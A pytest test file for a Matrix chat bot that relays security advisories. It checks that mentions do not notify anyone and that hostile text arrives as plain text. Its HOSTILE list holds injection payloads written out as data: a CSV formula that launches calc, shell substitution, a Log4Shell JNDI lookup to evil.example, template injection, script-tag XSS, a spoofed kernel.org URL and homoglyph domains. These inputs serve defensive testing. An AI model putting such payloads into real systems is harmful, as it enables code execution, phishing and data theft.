"""Hostile text through a real homeserver: it arrives as text, and pings nobody."""

from __future__ import annotations

from dataclasses import replace
from typing import Any  # JSON, as the wire has it

import pytest

from bot.channels.matrix import MatrixChannel
from bot.messages.model import freeze, make_message
from bot.messages.safe import undefused
from storage.store import Store
from tests.advisories.test_filters import DRAFT
from tests.bot.channels.matrix.sending import at, deliver, new_id, owe, with_channel
from tests.bot.channels.matrix.test_text import read_back
from tests.servers.synapse import Person, Synapse

pytestmark = pytest.mark.server

MENTIONS = (
    "@room",
    "@everyone @here",
    "@bob",
    "bob",
    "@bob:localhost",
    "<!channel>",
    "[x](tg://user?id=1)",
    "https://matrix.to/#/@bob:localhost",
)


def test_mentions_raise_nobodys_count(synapse: Synapse, alice: Person, bot: Person) -> None:
    """Who wants to hear of mentions only hears nothing of these strings, from a bot that could ping the room."""
    bob = synapse.person("bob")
    room = alice.create_room(bot.user, bob.user, power_level_content_override={"users": {bot.user: 100}})
    for one in (bot, bob):
        one.join(room)
    bob.call("PUT", "pushrules", "global", "room", room, body={"actions": []})

    async def send(channel: MatrixChannel) -> None:
        for text in MENTIONS:
            await channel.send(at(room), new_id(), freeze(make_message(text, [text])))

    def counts() -> dict[str, Any]:
        found: dict[str, Any] = bob.call("GET", "sync")["rooms"]["join"][room]["unread_notifications"]
        return found

    with_channel(synapse.url, bot, send)
    assert len(bob.messages(room, bot.user)) == len(MENTIONS)
    assert counts() == {"notification_count": 0, "highlight_count": 0}
    alice.say(room, "bob", **{"m.mentions": {"user_ids": [bob.user]}})
    assert counts() == {"notification_count": 1, "highlight_count": 1}


HOSTILE = (
    "CVE-2026-\u202e31431",
    "CVE-2026\u200b-31431",
    "\u0421VE-2026-31431",
    "CVE\u20112026\u201131431",
    "CVE-\u0662\u0660\u0662\u0666-31431 \uff12",
    "xn--gt-fka.kerneI.org git.kerneI.org",
    "https://git.kernel.org@evil.example/",
    "nul \x00 \x08 \x0b \x1b \ufffe",
    "Z" + "\u0301" * 10_000,
    "\x1b[31mred\x1b[0m",
    "first\n2026-05-01 ERROR faked",
    "@room @everyone @here @bob <!channel> [x](tg://user?id=1) https://matrix.to/#/@bob:localhost",
    "[safe](evil) ![](beacon) ||spoiler|| * ` _",
    "<a@b.c>",
    "a < b && c > d",
    "<p>x</p><ul><br><script>alert(1)</script><mx-reply>y</mx-reply>",
    "- . ! & &amp; &lt;b&gt;",
    "x" * 4090 + "\U0001f9df\u200d\u2640\ufe0f",
    "y" * 40_960,
    "=cmd|' /C calc'!A0",
    "$(id) ${jndi:ldap://evil.example/a} {{7*7}}",
    '" onclick="x" data-mx-maths="x"',
)


def test_hostile_text_arrives_as_text(store: Store, synapse: Synapse, bot: Person, room: str) -> None:
    """Text tricks in a change: what arrives has our tags only and, read back, equals the plain text."""
    drafts = [replace(DRAFT, text=one, field=f"f{number}") for number, one in enumerate(HOSTILE)]
    owe(store, room, *drafts)
    deliver(store, synapse.url, bot, 0)
    said = bot.messages(room, bot.user)
    whole = ""
    for one in said:
        text, tags, links = read_back(one)
        assert text == undefused(one["body"])
        assert tags <= {"strong", "code", "a"}
        assert links <= {"https://board.example/advisories/PW-2026-1"}
        assert one["m.mentions"] == {}
        whole += text
    for shown in ("\\u{202E}", "\\u{200B}", "[safe](evil)", "a < b && c > d", "<script>", "{{7*7}}"):
        assert shown in whole
    assert (whole.count("\n• "), whole.count("From debian:")) == (len(HOSTILE), 1)
